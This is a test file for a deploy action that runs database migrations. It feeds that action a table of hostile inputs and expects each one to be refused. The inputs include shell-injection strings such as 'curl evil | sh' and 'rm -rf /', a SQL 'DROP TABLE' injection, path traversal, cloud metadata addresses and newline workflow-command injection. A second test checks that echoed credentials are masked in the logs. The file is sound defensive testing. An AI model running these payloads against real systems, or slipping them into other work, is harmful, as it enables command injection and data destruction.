import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { repoRoot, runAction } from '@deploy-actions/harness';
import { expectRefused, type HostileCase } from '../snapshot-db/hostile-table';
import { expectNoForm } from '../snapshot-db/secret-forms';
import { postgresDatabase, type TestDatabase } from './databases';

// Issue 12: hostile inputs through the harness (one line naming the input, no stack, not one connection:
// the harness's network guard counts them and refuses any to a non-loopback address), and the echo test: a tool that
// prints its credentials in every encoding, none of which may reach the log, the outputs or the summary.

const SECRET = 'Hostile-Secret-7a6b5c4d';
const URL = `postgres://app:${SECRET}@127.0.0.1:9/orders`;
const BIG = 'a'.repeat(100_000);
const CLOUDRUN = {
  mode: 'cloudrun-job',
  image: 'ghcr.io/acme/api:1',
  'project-id': 'acme-prod-42',
  region: 'europe-west1',
  job: 'migrate',
};
const ECS = { mode: 'ecs-task', cluster: 'prod', service: 'core', command: 'true', 'aws-region': 'us-east-1' };
const examples = join(repoRoot, 'examples', 'app', 'migrations');
const touch = `touch ${join(mkdtempSync(join(tmpdir(), 'rm-hostile-')), 'ran')}`;

const cases: HostileCase[] = [
  // wrong types
  ['lock-timeout that is a word', { command: touch, 'lock-timeout': 'forever' }, 'lock-timeout'],
  ['dry-run that is not a boolean', { command: touch, 'dry-run': 'maybe' }, 'dry-run'],
  ['a timeout of zero', { command: touch, timeout: '0' }, 'timeout'],
  // unknown enums
  ['an unknown mode', { mode: 'liquibase', command: touch }, 'mode'],
  ['a mode with shell metacharacters', { mode: 'command; rm -rf /', command: touch }, 'mode'],
  // path traversal into the Cloud Run API
  [
    'project-id climbing to another project',
    { ...CLOUDRUN, 'project-id': 'acme/../../../v1/projects/victim' },
    'project-id',
  ],
  ['an encoded traversal in project-id', { ...CLOUDRUN, 'project-id': 'acme%2F..%2Fvictim' }, 'project-id'],
  ['a region with a slash', { ...CLOUDRUN, region: 'europe-west1/../../us-central1' }, 'region'],
  ['a job named ..', { ...CLOUDRUN, job: '..' }, 'job'],
  ['a job with a query', { ...CLOUDRUN, job: 'migrate?alt=media' }, 'job'],
  [
    'a secret reference that climbs',
    { ...CLOUDRUN, 'database-url-secret': 'projects/../secrets/x' },
    'database-url-secret',
  ],
  // metadata and plain-http endpoints
  ['the metadata address as api-endpoint', { ...CLOUDRUN, 'api-endpoint': 'http://169.254.169.254/' }, 'api-endpoint'],
  [
    'the metadata name as api-endpoint',
    { ...CLOUDRUN, 'api-endpoint': 'http://metadata.google.internal/' },
    'api-endpoint',
  ],
  ['plain http to a remote api-endpoint', { ...CLOUDRUN, 'api-endpoint': 'http://run.example.com/' }, 'api-endpoint'],
  [
    'a database on the metadata address',
    { command: touch, 'database-url': `postgres://app:${SECRET}@169.254.169.254/orders` },
    'database-url',
  ],
  // shell metacharacters and newlines
  ['an image with a shell command', { mode: 'image', image: 'ghcr.io/acme/api:1; curl evil | sh' }, 'image'],
  ['a region with a newline', { ...CLOUDRUN, region: 'europe-west1\nus-central1' }, 'region'],
  [
    'a history table with SQL in it',
    { mode: 'sql', 'migrations-dir': examples, 'history-table': 'x; DROP TABLE y' },
    'history-table',
  ],
  ['database-url-env with a space', { command: touch, 'database-url-env': 'DATABASE URL' }, 'database-url-env'],
  [
    'a database URL with a newline',
    { command: touch, 'database-url': `postgres://app:${SECRET}@127.0.0.1/orders\nx` },
    'database-url',
  ],
  // 100 KB values
  ['a 100 KB image', { mode: 'image', image: `ghcr.io/acme/${BIG}` }, 'image'],
  [
    'a 100 KB database URL',
    { command: touch, 'database-url': `postgres://app:${SECRET}@127.0.0.1/${BIG}` },
    'database-url',
  ],
  ['a 100 KB job name', { ...CLOUDRUN, job: BIG }, 'job'],
  // prototype keys and variable overrides
  ['an env key __proto__', { command: touch, env: '__proto__=1' }, 'env'],
  ['an env that overrides the URL variable', { command: touch, env: 'DATABASE_URL=postgres://x/y' }, 'env'],
  ['an env key that is not a variable name', { command: touch, env: 'BAD-KEY=1' }, 'env'],
  // secrets in non-secret inputs
  ['a database URL given as the image', { mode: 'image', image: `postgres://app:${SECRET}@db/orders` }, 'image'],
  [
    'a database URL given as working-directory',
    { mode: 'image', image: 'ghcr.io/acme/api:1', 'working-directory': `postgres://app:${SECRET}@db/x` },
    'working-directory',
  ],
  ['a migrations-dir that is not there', { mode: 'sql', 'migrations-dir': `../../${SECRET}` }, 'migrations-dir'],
  // ecs-task mode: names that go into ECS requests, checked before any AWS call
  ['an ECS service that climbs', { ...ECS, service: '../other' }, 'service'],
  ['an ECS cluster with a newline', { ...ECS, cluster: 'prod\n::set-output name=x::y' }, 'cluster'],
  [
    'a task-definition that climbs',
    { mode: 'ecs-task', 'task-definition': '../../td', subnets: 'subnet-0a1b2c3d', command: 'true' },
    'task-definition',
  ],
  ['a subnet with shell text', { ...ECS, subnets: 'subnet-0a1b2c3d;id' }, 'subnets'],
  ['a security group with command substitution', { ...ECS, 'security-groups': 'sg-$(id)' }, 'security-groups'],
  ['a started-by over 36 characters', { ...ECS, 'started-by': 'x'.repeat(37) }, 'started-by'],
  ['an AWS region that is not one', { ...ECS, 'aws-region': 'us-east-1/../../x' }, 'aws-region'],
  ['a 100 KB ECS container', { ...ECS, container: BIG }, 'container'],
  ['a database URL given as the ECS cluster', { ...ECS, cluster: `postgres://app:${SECRET}@db/orders` }, 'cluster'],
  ['a database URL given as started-by', { ...ECS, 'started-by': `postgres://app:${SECRET}@db/x` }, 'started-by'],
];

describe('run-migrations: hostile inputs', () => {
  it.each(cases)('%s', async (_, inputs, input) => {
    const result = await runAction('run-migrations', {
      inputs: { 'database-url': URL, ...inputs },
      secrets: [SECRET],
      networkGuard: true,
    });
    expectRefused(result, input);
  });

  it('has at least 25 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(25);
  });
});

describe('run-migrations: a tool that prints its credentials', () => {
  let db: TestDatabase;
  beforeAll(async () => {
    db = await postgresDatabase();
  });
  afterAll(() => db.drop());

  it('shows none of their forms in the log, the outputs or the summary', async () => {
    const url = new globalThis.URL(db.url);
    const user = decodeURIComponent(url.username);
    const forms = [
      db.url,
      db.password,
      encodeURIComponent(db.password),
      Buffer.from(db.url).toString('base64'),
      Buffer.from(db.password).toString('base64'),
      Buffer.from(`${user}:${db.password}`).toString('base64'),
    ];
    // The tool gets the password through its environment: the URL in DATABASE_URL, the parts for the test.
    const result = await runAction('run-migrations', {
      inputs: {
        mode: 'command',
        'database-url': db.url,
        command: `sh ${join(import.meta.dirname, 'echo-credentials.sh')}`,
        env: `ECHO_USER=${user}\nECHO_PASSWORD_RAW=${db.password}\nECHO_PASSWORD_ENCODED=${encodeURIComponent(db.password)}`,
      },
      secrets: forms,
    });
    expect(result.exitCode).toBe(0);
    expect(result.log).toContain('url: ***');
    expect(result.log).toContain('password base64: ***');
    expect(result.log).toContain('basic: Basic ***');
    // The tool never saw the step's inputs (database-url among them).
    expect(result.log).toContain('INPUT_DATABASE-URL=0');
    // Every form issue 12 names, one by one (the harness itself checks the raw and URL-encoded ones).
    expectNoForm(result, [{ secret: db.password, user }, { secret: db.url }]);
    expect(result.connections.length).toBeGreaterThan(0);
    expect(result.connections.filter((c) => c.blocked)).toEqual([]);
  });
});
